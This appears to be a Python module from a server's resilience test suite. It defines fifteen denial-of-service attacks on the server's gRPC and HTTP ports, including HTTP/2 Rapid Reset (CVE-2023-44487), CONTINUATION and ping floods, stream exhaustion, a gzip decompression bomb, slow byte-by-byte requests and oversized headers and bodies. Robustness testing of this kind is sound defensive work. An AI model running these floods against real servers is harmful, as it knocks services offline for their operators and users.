"""Attacks on a server's two ports, each a function: what a client can do to it that never plays by the rules.

Each takes the server, a stack that holds what is to stay open until the attack is over, and how long it may go on.
"""

import socket
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress
from typing import Final

import numpy as np
from hostile_peer import PATH, STREAM_PATH, HostilePeer, announced, bomb
from oip import infer_request
from running_server import RunningServer

from quadriga_client.load.engine import frames as h2

Attack = Callable[[RunningServer, ExitStack, float], None]

#: Streams at once on one connection, as the server's default allows.
STREAMS: Final = 1_000
_CONNECTIONS: Final = 10
_FLOODERS: Final = 4
_ROUND: Final = 100
_DATA_BYTES: Final = 16_000
_GIGABYTE: Final = 10**9
_LONGEST_MESSAGE: Final = 2**31 - 1


def idle_connections(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Connections on which nothing is ever said, and others on which HTTP/2 begins and nothing follows."""
    for number in range(1_000):
        held.enter_context(HostilePeer(server.grpc, greet=bool(number % 2)))


def headers_without_end(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Heads that are to be continued, and are not."""
    for _ in range(200):
        peer = held.enter_context(HostilePeer(server.grpc))
        peer.frame(h2.HEADERS, 0, 1, peer.headers())


def trickling_bodies(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Messages of which a byte comes now and then."""
    peers = [held.enter_context(HostilePeer(server.grpc)) for _ in range(_FLOODERS)]
    streams = [(peer, peer.call(announced(_ROUND), ends=False)) for peer in peers for _ in range(_ROUND)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for peer, stream in streams:
            peer.frame(h2.DATA, 0, stream, b"x")
        time.sleep(0.2)


def continuation_flood(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """A head that goes on for ever, in frames that are full and in empty ones."""
    for piece in (b"", None):
        peer = held.enter_context(HostilePeer(server.grpc))
        peer.frame(h2.HEADERS, 0, 1, peer.headers())
        fields = peer.encoded(*((f"key-{number}", "v" * 1_000) for number in range(12)))
        end = time.monotonic() + seconds / 2
        while time.monotonic() < end and peer.frame(h2.CONTINUATION, 0, 1, fields if piece is None else piece):
            pass


def rapid_reset(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Calls that are taken back at once, as fast as can be: CVE-2023-44487."""
    _reset_calls(server, held, seconds, b"")


def rapid_reset_of_requests(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Likewise, with whole requests that the server could begin to answer."""
    request = infer_request("echo", x=np.zeros((1, 4), np.float32)).SerializeToString()
    _reset_calls(server, held, seconds, h2.grpc_message(request))


def ping_and_settings_flood(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Frames that must be acknowledged, from clients that read the acknowledgements and from some that do not."""
    for kind, payload in ((h2.PING, bytes(8)), (h2.SETTINGS, b"")):
        for reads in (False, True):
            peer = held.enter_context(HostilePeer(server.grpc))
            peer.socket.settimeout(0.5)
            frames, end = h2.frame(kind, 0, 0, payload) * 1_000, time.monotonic() + seconds / 4
            while time.monotonic() < end and peer.write(frames):
                if reads:
                    peer.read()


def ten_thousand_streams(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Calls that never end, as many as are allowed on each of ten connections, half of them of ModelStreamInfer."""
    for number in range(_CONNECTIONS):
        peer = _greeted(server, held)
        for _ in range(STREAMS):
            peer.call(path=STREAM_PATH if number % 2 else PATH, ends=False)


def more_streams_than_allowed(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """20,000 calls on a single connection."""
    peer = held.enter_context(HostilePeer(server.grpc))
    for _ in range(20 * STREAMS):
        if peer.cut_off:
            break
        peer.call(ends=False)


def announced_gigabytes(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """10,000 messages of which each is said to have 2 GB, and ten bytes come."""
    for _ in range(_CONNECTIONS):
        peer = _greeted(server, held)
        for _ in range(STREAMS):
            peer.call(announced(_LONGEST_MESSAGE, bytes(10)), ends=False)


def compressed_bombs(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """1 GB of zeros in 1 MB of gzip, as a call and on a stream."""
    packed = bomb(_GIGABYTE)
    message = announced(len(packed), packed, compressed=True)
    for path in (PATH, STREAM_PATH):
        peer = held.enter_context(HostilePeer(server.grpc))
        stream = peer.next_stream()
        peer.frame(h2.HEADERS, h2.END_HEADERS, stream, peer.headers(path, ("grpc-encoding", "gzip")))
        for at in range(0, len(message), _DATA_BYTES):
            peer.frame(h2.DATA, 0, stream, message[at : at + _DATA_BYTES])
            peer.read(0.001)
        peer.frame(h2.DATA, h2.END_STREAM, stream)
        peer.read(max(seconds, 2.0))


def answers_never_read(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Requests whose answers have no window to come through, calls and streams."""
    request = h2.grpc_message(infer_request("echo", x=np.zeros((1, 4), np.float32)).SerializeToString())
    for _ in range(_FLOODERS):
        peer = held.enter_context(HostilePeer(server.grpc, INITIAL_WINDOW_SIZE=0))
        for _ in range(_ROUND):
            peer.call(request)
        stream = peer.call(path=STREAM_PATH, ends=False)
        for _ in range(h2.FIRST_WINDOW // len(request) // _ROUND):  # what its window allows
            peer.frame(h2.DATA, 0, stream, request * _ROUND)
    time.sleep(seconds)


def metadata_flood(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """Heads of 90 KB, where 16 KB are allowed."""
    peer, end = HostilePeer(server.grpc), time.monotonic() + seconds
    while time.monotonic() < end:
        block = peer.headers(PATH, *((f"key-{number}", "v" * 900) for number in range(100)))
        stream, pieces = peer.next_stream(), range(0, len(block), _DATA_BYTES)
        for at in pieces:
            kind, last = h2.CONTINUATION if at else h2.HEADERS, h2.END_HEADERS if at == pieces[-1] else 0
            peer.frame(kind, last, stream, block[at : at + _DATA_BYTES])
        peer.read()
        if peer.cut_off:
            peer.close()
            peer = HostilePeer(server.grpc)
    held.enter_context(peer)


def slow_http_requests(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """1,000 connections of the HTTP port, on which a request comes byte by byte."""
    sockets = [_http(server, held) for _ in range(1_000)]
    end = time.monotonic() + seconds
    while True:
        for each in sockets:
            with suppress(OSError):
                each.sendall(b"G")
        if time.monotonic() > end:
            return
        time.sleep(0.2)


def large_http_requests(server: RunningServer, held: ExitStack, seconds: float) -> None:
    """A head of 50 MB and a body of 50 MB at the HTTP port."""
    for start in (b"GET /metrics HTTP/1.1\r\nLong: ", b"POST /metrics HTTP/1.1\r\nContent-Length: 50000000\r\n\r\n"):
        connection = _http(server, held)
        connection.settimeout(0.5)
        with suppress(OSError):
            connection.sendall(start)
            for _ in range(50):
                connection.sendall(b"v" * 1_000_000)


#: All of them, by name.
ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        idle_connections,
        headers_without_end,
        trickling_bodies,
        continuation_flood,
        rapid_reset,
        rapid_reset_of_requests,
        ping_and_settings_flood,
        ten_thousand_streams,
        more_streams_than_allowed,
        announced_gigabytes,
        compressed_bombs,
        answers_never_read,
        metadata_flood,
        slow_http_requests,
        large_http_requests,
    )
}


def _greeted(server: RunningServer, held: ExitStack) -> HostilePeer:
    """A peer that has read the server's settings: one that opens streams before may have none."""
    peer: HostilePeer = held.enter_context(HostilePeer(server.grpc))
    peer.read(0.05)
    return peer


def _reset_calls(server: RunningServer, held: ExitStack, seconds: float, message: bytes) -> None:
    peers = [HostilePeer(server.grpc) for _ in range(_FLOODERS)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for index, peer in enumerate(peers):
            block, frames = peer.headers(), []
            for _ in range(_ROUND):
                stream = peer.next_stream()
                frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block))
                if message:
                    frames.append(h2.frame(h2.DATA, h2.END_STREAM, stream, message))
                frames.append(h2.number_frame(h2.RST_STREAM, stream, h2.CANCEL))
            peer.write(b"".join(frames))
            peer.read()
            if peer.cut_off:
                peer.close()
                peers[index] = HostilePeer(server.grpc)
    for peer in peers:
        held.enter_context(peer)


def _http(server: RunningServer, held: ExitStack) -> socket.socket:
    host, _, port = server.http.rpartition(":")
    return held.enter_context(socket.create_connection((host, int(port)), timeout=30))
